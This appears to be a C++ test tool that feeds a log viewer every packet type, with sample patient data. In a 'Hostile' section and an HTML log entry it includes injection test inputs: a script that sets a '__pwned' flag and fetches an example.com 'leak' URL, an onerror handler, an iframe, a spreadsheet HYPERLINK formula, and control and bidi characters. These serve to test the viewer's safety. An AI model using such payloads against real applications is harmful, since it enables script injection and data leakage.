#include "tests/tools/view_feed/feed.h"

#include <chrono>
#include <map>
#include <mutex>
#include <ostream>
#include <thread>
#include <vector>

#include "logging/base/string_list.h"
#include "logging/core/logger.h"
#include "logging/core/session.h"
#include "logging/packets/packet.h"
#include "logging/packets/viewer_context.h"
#include "logging/system/clock.h"
#include "tests/tools/view_feed/images.h"

namespace deruz::silog::feed {

using namespace deruz::logging;

namespace {

// A JSON string of the script's own plain texts.
std::string Quote(const std::string& AText) {
    std::string LOut = "\"";
    for (const char LC : AText) {
        if (LC == '"' || LC == '\\') LOut += '\\';
        LOut += LC;
    }
    return LOut + "\"";
}

// Counts what the logger sends, by kind and type, through its events.
class TCounter {
  public:
    void Attach(TSiLogger& ALogger) {
        ALogger.SetOnLogEntry([this](TSiLogger&, TSiLogEntry& AE) {
            std::lock_guard LGuard(FLock);
            ++FKinds["LogEntry"];
            ++FEntryTypes[std::string(SiLogEntryTypeString(AE.LogEntryType))];
            ++FViewers[std::string(SiViewerIdString(AE.ViewerId))];
            ++FRowsSinceClear;
        });
        ALogger.SetOnWatch([this](TSiLogger&, TSiWatch& AW) {
            std::lock_guard LGuard(FLock);
            ++FKinds["Watch"];
            ++FWatchTypes[std::string(SiWatchTypeString(AW.WatchType))];
            FWatchValues[AW.Name] = AW.Value;
        });
        ALogger.SetOnProcessFlow([this](TSiLogger&, TSiProcessFlow& AF) {
            std::lock_guard LGuard(FLock);
            ++FKinds["ProcessFlow"];
            ++FFlowTypes[std::string(SiProcessFlowTypeString(AF.ProcessFlowType))];
        });
        ALogger.SetOnControlCommand([this](TSiLogger&, TSiControlCommand& AC) {
            std::lock_guard LGuard(FLock);
            ++FKinds["ControlCommand"];
            ++FCommands[std::string(SiControlCommandTypeString(AC.ControlCommandType))];
            if (AC.ControlCommandType == ccClearLog || AC.ControlCommandType == ccClearAll) {
                FRowsSinceClear = 0;
            }
            ++FRowsSinceClear;
            if (AC.ControlCommandType == ccClearWatches || AC.ControlCommandType == ccClearAll) {
                FWatchValues.clear();
            }
        });
    }

    std::string Json(const std::string& AExtra) const {
        std::lock_guard LGuard(FLock);
        const auto LObject = [](const std::map<std::string, std::uint64_t>& AValues) {
            std::string LOut = "{";
            for (const auto& [name, count] : AValues) {
                if (LOut.size() > 1) LOut += ',';
                LOut += "\"" + name + "\":" + std::to_string(count);
            }
            return LOut + "}";
        };
        std::string LWatches = "{";
        for (const auto& [name, value] : FWatchValues) {
            if (LWatches.size() > 1) LWatches += ',';
            LWatches += Quote(name) + ":" + Quote(value);
        }
        LWatches += "}";
        return "{\"packets\":" + LObject(FKinds) + ",\"logEntryType\":" + LObject(FEntryTypes) +
               ",\"viewerId\":" + LObject(FViewers) + ",\"watchType\":" + LObject(FWatchTypes) +
               ",\"processFlowType\":" + LObject(FFlowTypes) +
               ",\"controlCommandType\":" + LObject(FCommands) +
               ",\"rowsAfterLastClear\":" + std::to_string(FRowsSinceClear) +
               ",\"watches\":" + LWatches + AExtra + "}";
    }

  private:
    mutable std::mutex FLock;
    std::map<std::string, std::uint64_t> FKinds, FEntryTypes, FViewers, FWatchTypes, FFlowTypes,
        FCommands;
    std::map<std::string, std::string> FWatchValues;
    std::uint64_t FRowsSinceClear = 0;
};

// A patient record for the inspector.
class TPatient : public ISiLoggable {
  public:
    void GetProperties(std::vector<TSiLoggableProperty>& AProperties) const override {
        AProperties.push_back({"Name", "Erika Mustermann"});
        AProperties.push_back({"Born", "1964-08-12"});
        AProperties.push_back({"Id", "7"});
        AProperties.push_back({"Insurance", "AOK <Bayern> & \"partners\""});
    }
    void GetEvents(std::vector<TSiLoggableEvent>& AEvents) const override {
        AEvents.push_back({"OnChange", nullptr, "", nullptr});
    }
};

// A small result set for the table viewer.
class TAppointments : public ISiDataSet {
  public:
    std::vector<TSiFieldDef> FieldDefs() const override {
        return {{"Id", "Integer", 4},
                {"Patient", "String", 40},
                {"Time", "DateTime", 8},
                {"Note", "String", 200}};
    }
    void First() override { FRow = 0; }
    bool Eof() const override { return FRow >= 3; }
    void Next() override { ++FRow; }
    std::optional<std::string> FieldValue(std::size_t AIndex) const override {
        static const char* const LRows[3][4] = {
            {"1", "Erika Mustermann", "2026-12-11 09:00", "check-up"},
            {"2", "Max \"Maxi\" Muster", "2026-12-11 09:30", "x-ray, upper jaw"},
            {"3", "=HYPERLINK(\"http://example.com\")", "2026-12-11 10:00", ""},
        };
        if (AIndex == 3 && FRow == 2) return std::nullopt;
        return LRows[FRow][AIndex];
    }
    std::int64_t GetBookmark() const override { return FRow; }
    void GotoBookmark(std::int64_t ABookmark) override { FRow = static_cast<int>(ABookmark); }

  private:
    int FRow = 0;
};

TSiMemoryStream Bytes(const void* AData, std::size_t ASize) {
    TSiMemoryStream LStream;
    LStream.Write(AData, ASize);
    return LStream;
}

// A placeable Windows metafile that draws one rectangle.
std::vector<std::uint8_t> Metafile() {
    std::vector<std::uint8_t> LOut;
    const auto LWord = [&](std::uint16_t AV) {
        LOut.push_back(static_cast<std::uint8_t>(AV));
        LOut.push_back(static_cast<std::uint8_t>(AV >> 8));
    };
    const auto LDword = [&](std::uint32_t AV) {
        LWord(static_cast<std::uint16_t>(AV));
        LWord(static_cast<std::uint16_t>(AV >> 16));
    };
    LDword(0x9AC6CDD7);  // placeable header
    LWord(0);
    LWord(0), LWord(0), LWord(100), LWord(100);  // bounding box
    LWord(1440);
    LDword(0);
    std::uint16_t LChecksum = 0;
    for (std::size_t LI = 0; LI < LOut.size(); LI += 2) {
        LChecksum ^= static_cast<std::uint16_t>(LOut[LI] | (LOut[LI + 1] << 8));
    }
    LWord(LChecksum);
    LWord(1), LWord(9), LWord(0x0300);  // metafile header
    LDword(19);                         // size in words
    LWord(0);
    LDword(7);  // largest record
    LWord(0);
    LDword(7), LWord(0x041B), LWord(90), LWord(90), LWord(10), LWord(10);  // rectangle
    LDword(3), LWord(0);                                                   // end of file
    return LOut;
}

void Script(TSiLogger& ALogger) {
    TSiSession& LMain = *ALogger.AddSession("Main");
    TSiSession& LImages = *ALogger.AddSession("Images");
    LImages.SetColor(0xC0F0FF);  // a light yellow background (0x00BBGGRR)
    TSiSession& LHostile = *ALogger.AddSession("Hostile");

    // Every control command, first, so that what follows stays visible.
    LMain.LogMessage("before ClearLog");
    LMain.WatchString("before.clear", "gone after ClearWatches");
    LMain.EnterMethod("Before.Clear");
    LMain.ClearLog();
    LMain.LogMessage("after ClearLog");
    LMain.ClearWatches();
    LMain.ClearProcessFlow();
    LMain.ClearAutoViews();
    LMain.LogMessage("before ClearAll");
    LMain.ClearAll();

    LMain.EnterProcess("view-feed.exe");
    LMain.EnterMethod("Main.Run");
    LMain.LogDebug("debug: cache lookup for patient 7");
    LMain.LogVerbose("verbose: 3 rows read from appointments");
    LMain.LogMessage("Patient 7 opened");
    LMain.LogWarning("Image server answered slowly (1.8 s)");
    LMain.LogError("Cannot open x-ray 42: file is locked");
    LMain.LogFatal("Imaging application is gone");
    LMain.LogInternalError("internal error: a deliberate one, for the viewer");
    LMain.SendCustomLogEntry("a comment from the operator", ltComment, viTitle, nullptr);
    LMain.LogInteger("count", 42, true);
    LMain.LogString("user", "Dr. Zahn");
    LMain.LogBoolean("connected", true);
    LMain.LogDouble("ratio", 0.75);
    LMain.AddCheckpoint();
    LMain.AddCheckpoint("stage", "images loaded");
    LMain.LogConditional(true, "condition held: 2 images");
    LMain.LogAssert(false, "assertion failed: exposure > 0");
    LMain.LogColored(0x0000FF, "coloured red");
    LMain.LogColored(0x00A000, "coloured green");
    LMain.LogSeparator();
    LMain.ResetCallstack();

    LMain.LogText("plain text", "first line\r\nsecond line with <b>no markup</b>\r\n\ttabbed\r\n");
    struct TSource {
        TSiSourceId Id;
        const char* Title;
        const char* Text;
    };
    const TSource LSources[] = {
        {siHtml, "HTML source", "<!DOCTYPE html>\n<p class=\"x\">Hello &amp; welcome</p>\n"},
        {siJavaScript, "JavaScript source",
         "function add(a, b) {\n  // sum\n  return a + b; /* done */\n}\n"},
        {siVbScript, "VBScript source", "Dim x\nx = 5 ' five\nMsgBox \"x = \" & x\n"},
        {siPerl, "Perl source", "my $n = 3; # three\nprint \"n=$n\\n\" for 1..$n;\n"},
        {siSql, "SQL source",
         "SELECT p.id, p.name FROM patients p\nWHERE p.born < '1970-01-01' -- old\n"},
        {siIni, "INI source", "; settings\n[Link]\nDetectOndarix=1\nPath=C:\\Program Files\n"},
        {siPython, "Python source",
         "def f(x):\n    \"\"\"double\"\"\"\n    return 2 * x  # twice\n"},
        {siXml, "XML source",
         "<?xml version=\"1.0\"?>\n<patient id=\"7\"><name>Erika</name></patient>\n"},
    };
    for (const auto& LS : LSources) LMain.LogSource(LS.Title, LS.Text, LS.Id);
    LMain.LogHtml("web content that tries to run script and fetch",
                  "<html><body><h1>Report</h1><p id=\"p\">static text</p>"
                  "<script>window.parent.__pwned=1;window.__pwned=1;"
                  "fetch('http://example.com/leak?x=1');</script>"
                  "<img src=\"http://example.com/track.png\" onerror=\"window.parent.__pwned=1\">"
                  "<iframe src=\"http://example.com/\"></iframe></body></html>");
    std::vector<std::uint8_t> LAll(256);
    for (int LI = 0; LI < 256; ++LI) LAll[LI] = static_cast<std::uint8_t>(LI);
    TSiMemoryStream LBinary = Bytes(LAll.data(), LAll.size());
    LMain.LogBinaryStream("bytes 0 to 255", &LBinary);

    TSiMemoryStream LBitmap = Bytes(kBitmap, sizeof kBitmap);
    LImages.LogBitmapStream("an 8x8 bitmap", &LBitmap);
    TSiMemoryStream LJpeg = Bytes(kJpeg, sizeof kJpeg);
    LImages.LogJpegStream("a 16x16 JPEG", &LJpeg);
    TSiMemoryStream LIcon = Bytes(kIcon, sizeof kIcon);
    LImages.LogIconStream("a 16x16 icon", &LIcon);
    const auto LWmf = Metafile();
    TSiMemoryStream LMetafile = Bytes(LWmf.data(), LWmf.size());
    LImages.LogMetafileStream("a metafile with a rectangle", &LMetafile);

    TSiStringList LList;
    LList.Add("first item");
    LList.Add("second <item>");
    LList.Add("third item");
    LMain.LogStringList("a list", &LList);
    TSiValueListViewerContext LValues;
    LValues.AppendKeyValue("host", "PC-17");
    LValues.AppendKeyValue("port", std::int32_t{4228});
    LValues.AppendKeyValue("a=b", "x\\y");
    LMain.LogCustomContext("a value list", ltText, &LValues);
    TPatient LPatient;
    LMain.LogObject("patient object", &LPatient);
    TAppointments LAppointments;
    LMain.LogDataSet("appointments", &LAppointments);
    LMain.LogDataSetSchema("appointments schema", &LAppointments);
    LMain.LogSystem();
    LMain.LogMemoryStatistic();

    // Nested flow on this thread, and a worker thread with its own.
    LMain.EnterMethod("Images.Load");
    LImages.LogMessage("loading 2 images");
    LMain.EnterMethod("Images.Decode");
    LMain.LeaveMethod("Images.Decode");
    LMain.LeaveMethod("Images.Load");
    std::thread LWorker([&] {
        LMain.EnterThread("Worker");
        LMain.EnterMethod("Worker.Process");
        LMain.LogMessage("worker processing");
        LMain.EnterMethod("Worker.Step");
        LMain.LeaveMethod("Worker.Step");
        LMain.LeaveMethod("Worker.Process");
        LMain.LeaveThread("Worker");
    });
    LWorker.join();

    // Watches of every type; the numeric ones change several times.
    LMain.WatchChar("grade", 'A');
    LMain.WatchString("status", "ready");
    LMain.WatchBoolean("online", true);
    LMain.WatchPointer("buffer", reinterpret_cast<const void*>(std::uintptr_t{0x1234ABCD}));
    LMain.WatchDateTime("started", TDateTime{46367.5});
    LMain.SendCustomWatch("patient", "Patient#7", wtObject);
    for (int LI = 1; LI <= 10; ++LI) {
        LMain.WatchInteger("counter", LI * LI);
        LMain.WatchDouble("temperature", 36.5 + LI * 0.1);
        std::this_thread::sleep_for(std::chrono::milliseconds(2));
    }
    LMain.WatchBoolean("online", false);
    LMain.IncCounter("requests");
    LMain.IncCounter("requests");

    // Hostile titles: markup, a script end, a direction override, control characters, bytes
    // that are not UTF-8, and a title of a megabyte.
    LHostile.LogMessage(kHostileImage);
    LHostile.LogWarning(kHostileScript);
    LHostile.LogMessage(kHostileBidi);
    LHostile.LogMessage("escape \x1b[31mred\x1b[0m bell \x07 end");
    LHostile.LogMessage("not utf-8: \xff\xfe\xc3 end");
    std::string LHuge = kHugeTitleStart;
    LHuge.resize(kHugeTitleSize, 'x');
    LHostile.LogMessage(LHuge);

    LMain.LeaveMethod("Main.Run");
    // Left open: the viewer shows it as a scope still running.
    LMain.EnterMethod("Main.Idle");
    LMain.LogMessage("script done");
}

}  // namespace

std::string RunFeed(const TFeedOptions& AOptions, std::ostream& AErr, bool& AFailed) {
    AFailed = false;
    TSiLogger LLogger(AOptions.AppName);
    std::mutex LErrorLock;
    LLogger.SetOnError([&](TSiLogger&, const std::exception& AE) {
        std::lock_guard LGuard(LErrorLock);
        AErr << AE.what() << "\n";
        AFailed = true;
    });
    TCounter LCounter;
    if (AOptions.Script) LCounter.Attach(LLogger);
    try {
        LLogger.SetConnections(AOptions.Connections);
    } catch (const std::exception& LE) {
        AErr << LE.what() << "\n";
        AFailed = true;
        return "{}";
    }
    LLogger.SetEnabled(true);
    std::string LExtra;
    if (!AOptions.Control.empty()) {
        TSiSession& LSession = *LLogger.AddSession("Main");
        bool LKnown = false;
        for (int LI = ccClearLog; LI <= ccClearProcessFlow; ++LI) {
            const auto LType = static_cast<TSiControlCommandType>(LI);
            if (SiControlCommandTypeString(LType) == AOptions.Control) {
                LSession.SendCustomControlCommand(LType, nullptr);
                LKnown = true;
            }
        }
        LLogger.SetEnabled(false);
        if (!LKnown) {
            AErr << "unknown control command '" << AOptions.Control << "'\n";
            AFailed = true;
            return "{}";
        }
        return "{\"packets\":{\"ControlCommand\":1},\"controlCommandType\":{" +
               Quote(AOptions.Control) + ":1}}";
    }
    if (AOptions.Script) {
        Script(LLogger);
    } else {
        TSiSession& LSession = *LLogger.AddSession("Main");
        const unsigned LThreads = std::max(1u, AOptions.Threads);
        const std::uint64_t LEach = AOptions.Count / LThreads;
        const auto LStart = std::chrono::steady_clock::now();
        std::vector<std::thread> LWorkers;
        for (unsigned LT = 0; LT < LThreads; ++LT) {
            const std::uint64_t LFirst = LT * LEach;
            const std::uint64_t LCount = LT + 1 == LThreads ? AOptions.Count - LFirst : LEach;
            // Throttled: each thread keeps to its share of the rate.
            const double LPerThread = AOptions.Rate / LThreads;
            LWorkers.emplace_back([&LSession, LFirst, LCount, LPerThread, LStart] {
                for (std::uint64_t LI = 0; LI < LCount; ++LI) {
                    if (LPerThread > 0) {
                        std::this_thread::sleep_until(
                            LStart +
                            std::chrono::duration_cast<std::chrono::steady_clock::duration>(
                                std::chrono::duration<double>(LI / LPerThread)));
                    }
                    LSession.LogMessage("message %d", {static_cast<std::int64_t>(LFirst + LI)});
                }
            });
        }
        for (auto& LW : LWorkers) LW.join();
        LLogger.SetEnabled(false);
        const auto LMs = std::chrono::duration_cast<std::chrono::milliseconds>(
                             std::chrono::steady_clock::now() - LStart)
                             .count();
        return "{\"packets\":{\"LogEntry\":" + std::to_string(AOptions.Count) +
               "},\"elapsedMs\":" + std::to_string(LMs) +
               ",\"dropped\":" + std::to_string(LLogger.DroppedPackets()) + "}";
    }
    LLogger.SetEnabled(false);  // writes what is buffered or queued
    LExtra = ",\"dropped\":" + std::to_string(LLogger.DroppedPackets());
    return LCounter.Json(LExtra);
}

}  // namespace deruz::silog::feed
